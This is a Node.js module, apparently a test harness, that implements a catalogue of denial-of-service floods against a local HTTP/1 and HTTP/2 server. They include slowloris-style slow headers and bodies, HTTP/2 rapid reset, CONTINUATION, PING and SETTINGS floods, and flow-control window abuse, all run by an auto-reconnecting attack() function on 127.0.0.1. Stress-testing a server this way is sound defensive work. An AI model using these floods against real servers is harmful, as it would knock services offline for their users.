// The floods of a server, by row of the attack catalogue (B: HTTP/1 and resources, C: HTTP/2), as actors on real sockets.
import net from 'node:net';
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  hello,
  PADDED,
  PING,
  PRIORITY,
  RST_STREAM,
  same,
  setting,
  SETTINGS,
  uint32,
  WINDOW_UPDATE,
} from './frames.mjs';
import { talk } from './talk.mjs';

/**
 * One attacker's connection: what it says first, then again and again.
 * @typedef {object} Flood
 * @property {string} name row and what it does
 * @property {number} [connections] default 4
 * @property {string | Buffer} first
 * @property {(turn: number) => Buffer | string | undefined} [again] as fast as the socket takes it
 * @property {number} [every] milliseconds between those, in place of as fast as it goes
 * @property {boolean} [deaf] reads nothing
 * @property {boolean} [resets] ends each connection with a reset, once it has said what it says first
 */

/** `:method`, `:scheme`, `:path`, `:authority`, without the table. @param {string} path @param {boolean} [post] */
const head = (path, post = false) => [post ? 0x83 : 0x82, 0x86, 0x04, path.length, ...Buffer.from(path), 0x01, 1, 0x61];
/** @param {number} id @param {string} path */
const get = (id, path = '/') => frame(HEADERS, END_HEADERS | END_STREAM, id, head(path));
/** @param {number} id @param {string} path */
const post = (id, path) => frame(HEADERS, END_HEADERS, id, head(path, true));

/** `count` times what `make` gives for the streams of this turn. @param {number} count @param {(id: number) => Buffer[]} make */
const streams = (count, make) => (/** @type {number} */ turn) =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(2 * (turn * count + i) + 1)).flat());
const GET = 'GET / HTTP/1.1\r\nhost: x\r\n\r\n';
/** @param {string} path @param {string} line */
const POST = (path, line) => `POST ${path} HTTP/1.1\r\nhost: x\r\n${line}\r\n\r\n`;

// prettier-ignore
/** @type {readonly Flood[]} */
export const floods = [
  { name: 'B1 heads byte by byte', connections: 100, first: 'GET / HTTP/1.1\r\nx: ', again: () => 'y', every: 100 },
  { name: 'B2 bodies byte by byte', connections: 100, first: POST('/hold', 'content-length: 9999'), again: () => 'y', every: 100 },
  { name: 'B2 responses never read', connections: 100, first: GET.replace('/ ', '/big '), deaf: true },
  { name: 'B3 fields without end', first: 'GET / HTTP/1.1\r\nhost: x\r\n', again: same(100, Buffer.from('x: y\r\n')) },
  { name: 'B5 tiny chunks, large extensions', first: POST('/hold', 'transfer-encoding: chunked'), again: same(10, Buffer.from(`1;${'a'.repeat(1000)}\r\nx\r\n`)) },
  { name: 'B6 pipelined, never read', first: '', again: same(100, Buffer.from(GET)), deaf: true },
  { name: 'B7 connections that say nothing', connections: 500, first: '' },
  { name: 'B8 resets within a head', connections: 16, first: 'GET / HTTP/1.1\r\nho', resets: true },
  { name: 'B8 resets within a response', connections: 16, first: GET.replace('/ ', '/big '), resets: true },
  { name: 'B9 large bodies to be collected', first: POST('/collect', 'content-length: 999999999'), again: same(1, Buffer.alloc(65_536)) },
  { name: 'C1 rapid reset', first: hello(), again: streams(50, (id) => [get(id), frame(RST_STREAM, 0, id, uint32(8))]) },
  { name: 'C2 resets we are made to send', first: hello(), again: streams(50, (id) => [get(id, '/hold'), frame(WINDOW_UPDATE, 0, id, uint32(0))]) },
  { name: 'C3 a header list limit of 1', first: hello(setting(6, 1)), again: streams(50, (id) => [get(id)]) },
  { name: 'C4 CONTINUATION without end', first: Buffer.concat([hello(), frame(HEADERS, 0, 1, head('/'))]), again: same(10, frame(CONTINUATION, 0, 1, Buffer.from([0, 1, 0x61, 1, 0x62]))) },
  { name: 'C5 CONTINUATION of no length', first: Buffer.concat([hello(), frame(HEADERS, 0, 1, head('/'))]), again: same(100, frame(CONTINUATION, 0, 1)) },
  { name: 'C6 a frame within a header block', first: Buffer.concat([hello(), frame(HEADERS, 0, 1, head('/')), frame(DATA, 0, 1, [1])]) },
  { name: 'C7 PING, answers never read', first: hello(), again: same(1000, frame(PING, 0, 0, Buffer.alloc(8))), deaf: true },
  { name: 'C7 PING, answers read', first: hello(), again: same(1000, frame(PING, 0, 0, Buffer.alloc(8))) },
  { name: 'C8 SETTINGS without end', first: hello(), again: same(100, frame(SETTINGS, 0, 0)) },
  { name: 'C9 invalid requests', first: hello(), again: streams(50, (id) => [frame(HEADERS, END_HEADERS | END_STREAM, id, [...head('/'), 0, 1, 0x41, 1, 0x62])]) },
  { name: 'C10 empty DATA', first: Buffer.concat([hello(), post(1, '/hold')]), again: same(1000, frame(DATA, 0, 1)) },
  { name: 'C11 DATA of one byte', first: Buffer.concat([hello(), post(1, '/hold')]), again: same(1000, frame(DATA, 0, 1, [1])) },
  { name: 'C12 fields without a name', first: hello(), again: streams(50, (id) => [frame(HEADERS, END_HEADERS | END_STREAM, id, [...head('/'), 0, 0, 1, 0x62])]) },
  { name: 'C13 PRIORITY', first: hello(), again: streams(200, (id) => [frame(PRIORITY, 0, id, [0, 0, 0, 0, 1])]) },
  { name: 'C14 windows opened byte by byte', first: Buffer.concat([hello(setting(4, 0)), streams(50, (id) => [get(id, '/big')])(0)]), again: () => streams(50, (id) => [frame(WINDOW_UPDATE, 0, id, uint32(1))])(0) },
  { name: 'C15 windows of 0', first: Buffer.concat([hello(setting(4, 0)), streams(100, (id) => [get(id, '/big')])(0)]), again: () => frame(WINDOW_UPDATE, 0, 1, uint32(1)), every: 1000 },
  { name: 'C16 windows that overflow', first: Buffer.concat([hello(), frame(WINDOW_UPDATE, 0, 0, uint32(2 ** 31 - 1)), frame(WINDOW_UPDATE, 0, 0, uint32(2 ** 31 - 1))]) },
  { name: 'C17 windows up and down', first: Buffer.concat([hello(setting(4, 10)), get(1, '/big')]), again: same(50, Buffer.concat([frame(SETTINGS, 0, 0, setting(4, 0)), frame(SETTINGS, 0, 0, setting(4, 100))])) },
  { name: 'C19 padding and resets', first: hello(), again: streams(20, (id) => [post(id, '/hold'), frame(DATA, PADDED, id, [255, ...Buffer.alloc(255)]), frame(RST_STREAM, 0, id, uint32(8))]) },
  { name: 'C20 more streams than allowed', first: hello(), again: streams(50, (id) => [get(id, '/hold')]) },
  { name: 'C21 frames after GOAWAY', first: Buffer.concat([hello(), frame(DATA, 0, 0, [1])]), again: same(1000, frame(PING, 0, 0, Buffer.alloc(8))) },
  { name: 'C25 Upgrade: h2c', first: '', again: same(20, Buffer.from('GET / HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk\r\n\r\n')) },
];

/** Milliseconds until an attacker that was thrown out is back. */
const BACK = 10;

/** Attacks until it is told to stop. @param {number} port @param {Flood} flood @returns {() => void} */
export function attack(port, flood) {
  const { connections = 4, first, deaf = false, resets = false } = flood;
  let stopped = false;
  /** @type {Set<net.Socket>} */
  const sockets = new Set();
  const begin = () => {
    if (stopped) return;
    const socket = net.connect({ host: '127.0.0.1', port, noDelay: true });
    sockets.add(socket);
    socket.on('connect', () => {
      if (first !== '') socket.write(first);
      if (resets) setImmediate(() => socket.resetAndDestroy());
      else talk(socket, flood);
    });
    if (!deaf) socket.resume();
    socket.on('error', () => undefined);
    socket.on('end', () => socket.destroy());
    socket.on('close', () => {
      sockets.delete(socket);
      if (!stopped) setTimeout(begin, BACK);
    });
  };
  for (let i = 0; i < connections; i++) begin();
  return () => {
    stopped = true;
    for (const socket of sockets) socket.destroy();
  };
}
